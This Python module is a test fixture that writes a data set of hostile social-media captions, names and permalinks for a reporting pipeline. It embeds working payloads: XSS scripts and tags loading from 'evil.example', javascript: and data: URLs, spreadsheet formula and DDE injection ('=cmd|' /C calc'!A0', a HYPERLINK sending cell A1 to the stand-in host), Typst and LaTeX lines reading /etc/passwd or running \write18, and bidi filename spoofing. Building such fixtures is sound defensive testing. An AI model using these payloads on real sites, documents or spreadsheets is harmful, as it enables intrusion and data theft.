"""A data set whose every free text is an attack: what a stranger may put into a caption, a hashtag, a name or a link.

`write` makes a data set directory for the real pipeline. On each platform every text of `CAPTIONS` is posted, and a
different part of them is the most liked, so that the five platforms' top posts show them all. Nothing in it may ever
run: what did would set `TRIPPED` in a page, or ask for something at `HOST`.
"""

import csv
import shutil

from smi import SAMPLE

HOST = "evil.example"
TRIPPED = "smiTripped"
_RUN = f"window.{TRIPPED}=1"

CAPTIONS = {
    # what a page would run, load or be led away by
    "script": f"<script>{_RUN}</script><script src=https://{HOST}/x.js></script> #<script>",
    "closers": f"</p></li></ol></section></main></style></script></title></textarea>--><script>{_RUN}</script> #closers",
    "attribute": f"\" onmouseover=\"{_RUN}\" autofocus onfocus='{_RUN}' x=' #attribute",
    "image": f"<img src=x onerror={_RUN}><img src=//{HOST}/pixel.png><svg/onload={_RUN}> #image",
    "frame": f"<iframe src='javascript:{_RUN}'></iframe><base href=https://{HOST}/><meta http-equiv=refresh content=0;url=https://{HOST}/> #frame",
    "style": f"<style>@import url(https://{HOST}/x.css); body {{ background: url(https://{HOST}/b) }}</style>}}*{{display:none #style",
    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62; &amp;amp; &#x6a;avascript: #entity",
    "javascript": f"javascript:{_RUN} JaVaScRiPt:{_RUN} vbscript:x #javascript",
    "data_url": f"data:text/html;base64,PHNjcmlwdD4= data:text/html,<script>{_RUN}</script> #data_url",
    "blanks": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} {0.__class__} %s %(x)s #blanks",
    # characters that act on the text around them
    "reversed": "\u202ecod.exe\u202c \u2066\u2067isolates\u2069 \u200f\u061c\u200e photo\u202egnp.exe #re\u202eversed",
    "invisible": "zero\u200bwidth\u2060joined\ufeff soft\u00adhyphen \U000e0041\U000e0042 \u180e #in\u200bvisible",
    "control": "bell\x07 backspace\x08 escape\x1b[31mred\x1b[0m nul\x00 delete\x7f next\x85line\u2028\u2029 \x0b\x0c\r\n\t #control",
    "stacked": "Z" + "\u0301\u0316\u0334" * 300 + "algo #stacked",
    "not_characters": "\ufffe\uffff\ue000\U0010ffff \U000f0000 #not_characters",
    # what a spreadsheet would compute
    "formula": f'=HYPERLINK("https://{HOST}/?"&A1,"click") #formula',
    "command": "=cmd|'/C calc'!A0 #command",
    "plus": "+1+1 #plus",
    "minus": "-2+3+cmd|' /C calc'!A0 #minus",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 #at",
    "tabbed": "\t=1+1 #tabbed",
    "full_width": "＝1+1 ＋1 ＠SUM #full_width",
    "cells": 'a,b;c\td"e""f\r\n=1+1,"=2+2" #cells',
    # what a typesetter would read or run
    "typst": '#import "@preview/evil:0.1.0": * #read("/etc/passwd") #eval("1") $ x $ <label> @cite `raw` *strong* _emph_ #typst',
    "typst_closers": ')] } ]] #] #{ panic("x") } #set page(width: 1pt) \\u{0041} \\\\ // gone /* gone #typst_closers',
    "latex": "\\input{/etc/passwd} \\write18{id} % gone $x$ #latex",
    "markdown": f"[link](javascript:{_RUN}) ![image](https://{HOST}/m.png) <https://{HOST}/> | cell | `code` **bold** ~~gone~~ # heading #markdown",
    "links": f"https://{HOST}/ www.{HOST} http://user:pass@{HOST}:8443/?a=b&c=d mailto:a@{HOST} #links",
    # what is not an attack and must survive as far as the font goes
    "emoji": "👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇳 👍🏽 ☕️ #emoji🎉party",
    "thai": "กรุงเทพมหานคร น้ำใจ ขอบคุณ #ไทย",
    "arabic": "مرحبا بالعالم (صباح الخير) 123 #مرحبا",
    "hebrew": "שלום עולם! #שלום",
    "rare": "𠮷野家 㐂 龘 𪚥 #𠮷",
    "blank": " \u3000\u00a0\u2003 ",
    "only_marks": "\u200b\u200e\u202e",
}
LONG = "long"
_LONG_CAPTION = 9_990_000  # characters: the sandbox's data sets end at ten million a cell
_POSTS_HEAD = ("platform", "account_id", "post_id", "created_at", "kind", "text", "permalink", "likes", "comments", "shares", "views")  # fmt: skip
PERMALINKS = (
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"https://user:pass@{HOST}/",
    f'https://{HOST}/"onclick="{_RUN}',
    f"//{HOST}/",
    "https://xn--e1awd7f.example/\u202e",
    "",
)
# Of a registry kept by hand; for other data sets "a city" is whatever is ranked, called as it is called.
NAMES = {
    "320100": ("=1+1<b>南京</b>", f"<script>{_RUN}</script>Nanjing"),
    "510100": ("成都\u202e", "#set text(red) Chengdu $x$"),
    "350200": ('"><img src=x>厦门', "@Xiamen | **x**"),
}
_VIDEOS = {"youtube", "tiktok"}


def write(folder):
    """Write the data set with its registry into `folder`, which must not be there yet; equal bytes each time.

    One caption is ten megabytes long: the directory has 10 MB.
    """
    folder.mkdir(parents=True)
    shutil.copytree(SAMPLE / "registry", folder / "registry")
    _rename(folder / "registry" / "cities.csv")
    shutil.copy(SAMPLE / "followers.csv", folder)
    captions = list(CAPTIONS.values())
    with (SAMPLE / "accounts.csv").open(encoding="utf-8", newline="") as stream:
        accounts = list(csv.DictReader(stream))
    for place, account in enumerate(accounts):
        account["display_name"] = captions[place % len(captions)]
    with (folder / "accounts.csv").open("w", encoding="utf-8", newline="") as stream:
        table = csv.DictWriter(stream, list(accounts[0]))
        table.writeheader()
        table.writerows(accounts)
    with (folder / "posts.csv").open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerow(_POSTS_HEAD)
        csv.writer(stream).writerows(_posts(accounts))
    return folder


def _rename(cities):
    with cities.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    for row in rows:
        zh, en = NAMES.get(row["city_id"], (row["name_zh"], row["name_en"]))
        row |= {"name_zh": zh, "name_en": en}
    with cities.open("w", encoding="utf-8", newline="") as stream:
        table = csv.DictWriter(stream, list(rows[0]))
        table.writeheader()
        table.writerows(rows)


def _posts(accounts):
    """Every caption on every platform, spread over its accounts; the fifth a platform begins with has the most likes."""
    platforms = list(dict.fromkeys(account["platform"] for account in accounts))
    captions = list(CAPTIONS.values())
    for turn, platform in enumerate(platforms):
        own = [account for account in accounts if account["platform"] == platform]
        begin = turn * len(captions) // len(platforms)
        turned = captions[begin:] + captions[:begin]
        if platform == "facebook":
            turned.insert(3, _long())
        for place, text in enumerate(turned):
            account = own[place % len(own)]
            video = platform in _VIDEOS or place % 4 == 0
            yield (
                platform,
                account["account_id"],
                f"hostile-{turn}-{place}",
                f"2025-05-{place % 28 + 1:02d}T08:{place:02d}:00Z",
                "video" if video else "photo",
                text,
                PERMALINKS[place % len(PERMALINKS)],
                10_000 - 100 * place,
                50 - place,
                "" if place % 5 == 0 else 30,
                200_000 - place if video else "",
            )


def _long():
    piece = f"<b>{_RUN}</b> =1+1 #read \u202e长 "
    return piece * (_LONG_CAPTION // len(piece)) + "#long"
